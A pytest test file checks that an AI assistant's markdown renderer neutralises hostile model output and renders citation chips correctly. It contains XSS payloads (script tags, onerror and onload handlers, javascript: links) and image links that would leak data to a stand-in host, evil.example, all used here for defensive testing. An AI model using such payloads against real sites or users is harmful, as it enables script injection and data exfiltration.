"""What a model writes is shown as text: it can make no script, no image, no link into this site and no false chip."""

import uuid
from html.parser import HTMLParser

import pytest

from assistant import markdown

MESSAGE = uuid.UUID("00000000-0000-4000-8000-000000000001")


class Elements(HTMLParser):
    """The elements that a browser would make of it, with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def passage(n: int, ref: str = "p12", **more: object) -> dict[str, object]:
    return {"n": n, "ref": ref, "kind": "passage", "passage_id": 12, "title": "A paper", "verified": True, **more}


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](http://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,hello)",
        "[x](/sign-out/)",
        "[x](//evil.example/)",
        '<a href="http://a.example" onclick="x()">x</a>',
        "<svg onload=alert(1)>",
        "<style>body{display:none}</style>",
        '[x](http://a.example "[[p12]]")',
        "| a |\n|:-:|\n| <b onmouseover=x>b</b> |",
    ],
)
def test_hostile_text_leaves_nothing_active(text: str) -> None:
    elements = Elements(markdown.render(text, [passage(1)], MESSAGE))
    assert {tag for tag, _ in elements.found} <= {"p", "a", "table", "thead", "tbody", "tr", "th", "td"}
    for tag, attributes in elements.found:
        assert not {name for name in attributes if name.startswith("on") or name in ("style", "src")}, tag
        href = attributes.get("href") or ""
        assert not href or href.startswith(("http://a.example", f"/messages/{MESSAGE}/evidence/")), href


def test_an_image_is_only_its_words() -> None:
    html = markdown.render("![the lungs](http://evil.example/a.png?leak=1)")
    assert html.strip() == "<p>the lungs</p>"


def test_links_open_the_web_and_tell_it_nothing() -> None:
    html = markdown.render("[a paper](https://example.org/x)")
    assert 'href="https://example.org/x"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_headings_stay_below_those_of_the_page() -> None:
    assert "<h3>Findings</h3>" in markdown.render("# Findings")


def test_tables_are_shown_without_inline_style() -> None:
    html = markdown.render("| a | b |\n|--:|---|\n| 1 | 2 |")
    assert "<table>" in html
    assert "style" not in html


def test_markers_become_chips_in_order() -> None:
    html = markdown.render("One. [[p12]] Two. [[p13]]", [passage(1), passage(2, "p13")], MESSAGE)
    assert html.index(f"/messages/{MESSAGE}/evidence/1/") < html.index(f"/messages/{MESSAGE}/evidence/2/")
    assert "[[" not in html


def test_a_mask_chip_names_its_mask_and_wears_its_colour() -> None:
    mask = {"n": 1, "ref": "c3.2", "kind": "mask", "artifact_id": str(MESSAGE), "label": "left lung", "verified": True}
    html = markdown.render("It is here. [[c3.2]]", [mask], MESSAGE)
    assert "mask-2" in html
    assert ">left lung</a>" in html


def test_a_label_cannot_break_out_of_its_chip() -> None:
    mask = {"n": 1, "ref": "c1.1", "kind": "mask", "artifact_id": "x", "label": '"><script>', "verified": True}
    assert "<script" not in markdown.render("[[c1.1]]", [mask], MESSAGE)


def test_an_unsupported_sentence_is_underlined_with_its_reason_and_cites_nothing() -> None:
    wrong = passage(1, verified=False, reason="Unsupported: these words do not stand in the passage.")
    html = markdown.render("The first is known. The second is invented. [[p12]]", [wrong], MESSAGE)
    assert '<span class="unsupported">The second is invented.\xa0</span>' in html
    assert "these words do not stand in the passage" in html
    assert "/evidence/" not in html


def test_a_reference_about_another_marker_opens_nothing() -> None:
    assert "/evidence/" not in markdown.render("Words. [[p99]]", [passage(1)], MESSAGE)


def test_private_characters_of_a_model_make_no_chip() -> None:
    html = markdown.render("\ue0000\ue001 and [[p12]]", [passage(1)], MESSAGE)
    assert html.count("/evidence/1/") == 2  # href and hx-get of one chip


def test_a_chip_keeps_to_the_word_before_it() -> None:
    assert "Words.\xa0<" in markdown.render("Words. [[p12]]", [passage(1)], MESSAGE)


@pytest.mark.parametrize("tail", ["[", "[[", "[[p", "[[p1", "[[p12", "[[p12]", "[[c3.", "[[c3.1]"])
def test_half_a_marker_at_the_end_of_a_stream_is_not_shown(tail: str) -> None:
    assert markdown.render(f"Words {tail}", live=True).strip() == "<p>Words</p>"


def test_streamed_markers_are_neutral() -> None:
    html = markdown.render("Words. [[p12]]", live=True)
    assert "chip-pending" in html
    assert "[[" not in html


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("one\n\ntwo\n\nthree", 3),
        ("```\na\n\nb\n```\n\nafter", 2),
        ("- a\n\n  more of a\n\n- b", 2),
        ("", 0),
        ("\n\n", 0),
    ],
)
def test_text_is_cut_only_where_nothing_changes(text: str, count: int) -> None:
    pieces = list(markdown.blocks(text))
    assert len(pieces) == count
    assert "".join(pieces).strip() == text.strip()
